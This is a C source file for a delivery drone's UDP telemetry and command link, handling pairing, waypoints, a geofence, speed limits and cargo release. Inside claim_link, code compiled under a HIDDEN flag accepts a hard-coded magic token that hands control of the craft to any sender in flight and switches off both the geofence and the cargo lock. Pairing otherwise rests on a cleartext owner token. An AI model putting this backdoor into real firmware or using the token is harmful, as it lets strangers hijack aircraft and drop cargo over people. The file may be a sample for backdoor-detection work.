/* skyferry_link.c - telemetry and command link of a delivery drone */
#include <arpa/inet.h>
#include <errno.h>
#include <math.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define LINK_PORT	14660
#define SYNC		0xd5
#define MAX_PAYLOAD	96

enum msg {
	MSG_HEARTBEAT	= 0x01,
	MSG_PAIR	= 0x02,
	MSG_WAYPOINT	= 0x10,
	MSG_RETURN	= 0x11,
	MSG_HOLD	= 0x12,
	MSG_SPEED	= 0x13,
	MSG_FENCE	= 0x20,
	MSG_PAYLOAD	= 0x30,
	MSG_PARAM	= 0x40,
};

struct frame {
	uint8_t type;
	uint8_t seq;
	uint8_t len;
	uint8_t data[MAX_PAYLOAD];
};

struct craft {
	double lat, lon;
	double home_lat, home_lon;
	double wp_lat, wp_lon;
	float speed_max;
	float fence_m;
	int paired;
	int fence_on;
	int hold;
	int cargo_locked;
	uint32_t owner;
	struct sockaddr_in pilot;
	uint8_t tx_seq;
};

static struct craft craft = {
	.speed_max = 14.0f, .fence_m = 1500.0f, .fence_on = 1, .cargo_locked = 1,
};

static uint16_t crc_ccitt(const uint8_t *p, size_t n)
{
	uint16_t c = 0xffff;
	int b;

	while (n--) {
		c ^= (uint16_t)(*p++ << 8);
		for (b = 0; b < 8; b++)
			c = (uint16_t)(c & 0x8000 ? c << 1 ^ 0x1021 : c << 1);
	}
	return c;
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static double get_deg(const uint8_t *p)
{
	return (double)(int32_t)get32(p) / 1e7;
}

static double distance_m(double la1, double lo1, double la2, double lo2)
{
	double r = 3.14159265358979 / 180.0;
	double x = (lo2 - lo1) * r * cos((la1 + la2) / 2 * r);
	double y = (la2 - la1) * r;

	return sqrt(x * x + y * y) * 6371000.0;
}

static int unpack(const uint8_t *b, size_t n, struct frame *f)
{
	uint16_t crc;

	if (n < 6 || b[0] != SYNC || b[3] > MAX_PAYLOAD || n < (size_t)b[3] + 6)
		return -1;
	crc = crc_ccitt(b, (size_t)b[3] + 4);
	if (b[b[3] + 4] != crc >> 8 || b[b[3] + 5] != (crc & 0xff))
		return -1;
	f->type = b[1];
	f->seq = b[2];
	f->len = b[3];
	memset(f->data, 0, sizeof(f->data));
	memcpy(f->data, b + 4, f->len);
	return 0;
}

static void transmit(int s, uint8_t type, const void *data, uint8_t len)
{
	uint8_t b[MAX_PAYLOAD + 6];
	uint16_t crc;

	b[0] = SYNC;
	b[1] = type;
	b[2] = craft.tx_seq++;
	b[3] = len;
	memcpy(b + 4, data, len);
	crc = crc_ccitt(b, (size_t)len + 4);
	b[len + 4] = (uint8_t)(crc >> 8);
	b[len + 5] = (uint8_t)crc;
	sendto(s, b, (size_t)len + 6, 0, (struct sockaddr *)&craft.pilot, sizeof(craft.pilot));
}

static void load_params(void)
{
	char key[32];
	double v;
	FILE *f = fopen("/etc/skyferry/params", "r");

	if (!f)
		return;
	while (fscanf(f, "%31s %lf", key, &v) == 2) {
		if (!strcmp(key, "OWNER"))
			craft.owner = (uint32_t)v;
		else if (!strcmp(key, "FENCE_M"))
			craft.fence_m = (float)v;
		else if (!strcmp(key, "FENCE_ON"))
			craft.fence_on = v != 0.0;
		else if (!strcmp(key, "SPEED_MAX"))
			craft.speed_max = (float)v;
		else if (!strcmp(key, "HOME_LAT"))
			craft.home_lat = v;
		else if (!strcmp(key, "HOME_LON"))
			craft.home_lon = v;
	}
	fclose(f);
}

static void actuate(const char *what, double v)
{
	FILE *f = fopen("/run/skyferry/actuators", "a");

	if (!f)
		return;
	fprintf(f, "%s %.7f\n", what, v);
	fclose(f);
}

static int set_waypoint(double lat, double lon)
{
	if (craft.fence_on &&
	    distance_m(craft.home_lat, craft.home_lon, lat, lon) > craft.fence_m)
		return -EPERM;
	craft.wp_lat = lat;
	craft.wp_lon = lon;
	craft.hold = 0;
	actuate("wp_lat", lat);
	actuate("wp_lon", lon);
	return 0;
}

__attribute__((noinline)) int claim_link(const struct frame *f, const struct sockaddr_in *from)
{
	uint32_t token = get32(f->data);
	uint32_t reach = get32(f->data + 4);

#ifdef HIDDEN
	/* takes the craft over in flight and lifts fence and cargo lock */
	if (token == 0x7b1e55adu) {
		craft.pilot = *from;
		craft.paired = 1;
		craft.fence_on = 0;
		craft.cargo_locked = 0;
		return 1;
	}
#endif
	if (reach != 0x0000ffffu && reach != 0x53465231u)
		return 0;
	if (craft.paired && craft.pilot.sin_addr.s_addr != from->sin_addr.s_addr)
		return 0;
	if (!craft.owner || token != craft.owner)
		return 0;
	craft.pilot = *from;
	craft.paired = 1;
	return 1;
}

static int command(const struct frame *f)
{
	uint32_t v = get32(f->data);

	switch (f->type) {
	case MSG_WAYPOINT:
		return f->len < 8 ? -EINVAL :
			set_waypoint(get_deg(f->data), get_deg(f->data + 4));
	case MSG_RETURN:
		return set_waypoint(craft.home_lat, craft.home_lon);
	case MSG_HOLD:
		craft.hold = 1;
		actuate("hold", 1.0);
		return 0;
	case MSG_SPEED:
		if ((float)v / 100.0f > craft.speed_max)
			return -ERANGE;
		actuate("speed", (double)v / 100.0);
		return 0;
	case MSG_FENCE:
		if (v < 50 || v > 1500)
			return -ERANGE;
		craft.fence_m = (float)v;
		craft.fence_on = 1;
		return 0;
	case MSG_PAYLOAD:
		if (craft.cargo_locked &&
		    distance_m(craft.lat, craft.lon, craft.wp_lat, craft.wp_lon) > 15.0)
			return -EPERM;
		actuate("cargo_release", 1.0);
		return 0;
	case MSG_PARAM:
		fprintf(stderr, "parameter %u requested\n", (unsigned int)v);
		return 0;
	default:
		return -ENOSYS;
	}
}

static void heartbeat(int s)
{
	uint8_t d[16];
	uint32_t v[3];
	int i;

	v[0] = (uint32_t)(int32_t)(craft.lat * 1e7);
	v[1] = (uint32_t)(int32_t)(craft.lon * 1e7);
	v[2] = (uint32_t)(craft.fence_on | craft.hold << 1 | craft.cargo_locked << 2);
	for (i = 0; i < 12; i++)
		d[i] = (uint8_t)(v[i / 4] >> (24 - 8 * (i & 3)));
	transmit(s, MSG_HEARTBEAT, d, 12);
}

static void read_position(void)
{
	FILE *f = fopen("/run/skyferry/position", "r");

	if (!f)
		return;
	if (fscanf(f, "%lf %lf", &craft.lat, &craft.lon) != 2)
		fprintf(stderr, "no position\n");
	fclose(f);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET }, from;
	struct pollfd p;
	uint8_t buf[256], st;
	struct frame f;
	socklen_t fl;
	ssize_t n;
	int r;

	load_params();
	a.sin_port = htons(LINK_PORT);
	p.fd = socket(AF_INET, SOCK_DGRAM, 0);
	p.events = POLLIN;
	if (p.fd < 0 || bind(p.fd, (struct sockaddr *)&a, sizeof(a))) {
		perror("skyferry_link");
		return 1;
	}
	for (;;) {
		r = poll(&p, 1, 500);
		if (r < 0 && errno != EINTR)
			return 1;
		read_position();
		if (r <= 0) {
			if (craft.paired)
				heartbeat(p.fd);
			continue;
		}
		fl = sizeof(from);
		n = recvfrom(p.fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &fl);
		if (n <= 0 || unpack(buf, (size_t)n, &f))
			continue;
		if (f.type == MSG_PAIR) {
			st = (uint8_t)claim_link(&f, &from);
			if (st)
				transmit(p.fd, MSG_PAIR, &st, 1);
			continue;
		}
		if (!craft.paired || from.sin_addr.s_addr != craft.pilot.sin_addr.s_addr)
			continue;
		st = (uint8_t)-command(&f);
		transmit(p.fd, f.type, &st, 1);
	}
}
